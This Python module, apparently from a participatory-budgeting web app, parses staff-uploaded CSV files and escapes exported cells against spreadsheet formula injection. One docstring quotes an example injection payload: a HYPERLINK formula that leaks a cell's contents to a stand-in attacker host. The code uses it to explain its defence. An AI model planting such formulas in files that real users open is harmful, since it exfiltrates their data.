"""Reading the CSV files staff upload (districts, projects): the rows by their line, or what is wrong with
the file as a whole. Spreadsheets write commas, semicolons or tabs and may start with a byte-order mark;
every one of those reads. Pure: no Flask, no database; messages are codes the views put in words.

Also the other way: ``inert_cell`` makes a text cell of a CSV file pb writes safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

MAX_ROWS = 5000
# What makes a spreadsheet read a cell as a formula (or, with tab and carriage return, hide one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: object) -> object:
    """A CSV cell that a spreadsheet shows as text: a string starting like a formula gets a leading apostrophe.

    Residents write project titles; ``=HYPERLINK("http://evil.example/?"&B2,"map")`` must stay words (OWASP
    "CSV injection"). Numbers are written as they are, so negative amounts stay numbers.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CsvProblem(ValueError):
    """The file cannot be read as a table: ``code`` says why (``empty``, ``encoding``, ``columns``, ``too_many``,
    ``unreadable``),
    ``detail`` names the columns or the line."""

    def __init__(self, code: str, detail: str = "") -> None:
        super().__init__(code)
        self.code = code
        self.detail = detail


@dataclass(frozen=True)
class Row:
    """One line of the table: its number in the file and its values by column name (lowercase)."""

    line: int
    values: dict[str, str]
    # Set when the line has another number of fields than the header (a line cut short, say).
    fields: int | None = None


def decode(data: bytes) -> str:
    """UTF-8 text (with or without a byte-order mark); raises CsvProblem("encoding") otherwise."""
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError:
        raise CsvProblem("encoding") from None


def header_dialect(text: str) -> type[csv.Dialect] | csv.Dialect:
    """The CSV dialect of a file, judged by its first non-empty line (the header) alone: a later line cut short
    or holding a stray comma must not make a semicolon file read as a comma file."""
    first = next((line for line in text.splitlines() if line.strip()), "")
    try:
        return csv.Sniffer().sniff(first, delimiters=",;\t")
    except csv.Error:
        return csv.excel


def csv_lines(reader):
    """The reader's lines; a line the csv module cannot read (a field past its size limit) is a CsvProblem."""
    while True:
        try:
            yield next(reader)
        except StopIteration:
            return
        except csv.Error:
            raise CsvProblem("unreadable", str(reader.line_num)) from None


def read_table(text: str, required: tuple[str, ...], known: tuple[str, ...]) -> list[Row]:
    """The rows of a CSV text whose header names at least the ``required`` columns (any case, any order)."""
    lines = [line for line in text.splitlines() if line.strip()]
    if not lines:
        raise CsvProblem("empty")
    # newline="": a carriage return inside a line ends the line, as a spreadsheet reads it, instead of csv.Error.
    reader = csv.reader(io.StringIO(text, newline=""), header_dialect(text))
    header: list[str] | None = None
    rows: list[Row] = []
    for values in csv_lines(reader):
        line = reader.line_num
        if not any(value.strip() for value in values):
            continue
        if header is None:
            header = [name.strip().lower() for name in values]
            lacking = [name for name in required if name not in header]
            if lacking:
                raise CsvProblem("columns", ", ".join(lacking))
            unknown = [name for name in header if name and name not in known]
            if unknown:
                raise CsvProblem("unknown_columns", ", ".join(unknown))
            continue
        if len(rows) >= MAX_ROWS:
            raise CsvProblem("too_many", str(MAX_ROWS))
        cells = dict(zip(header, (value.strip() for value in values), strict=False))
        rows.append(Row(line, {name: cells.get(name, "") for name in header},
                        None if len(values) == len(header) else len(values)))
    return rows
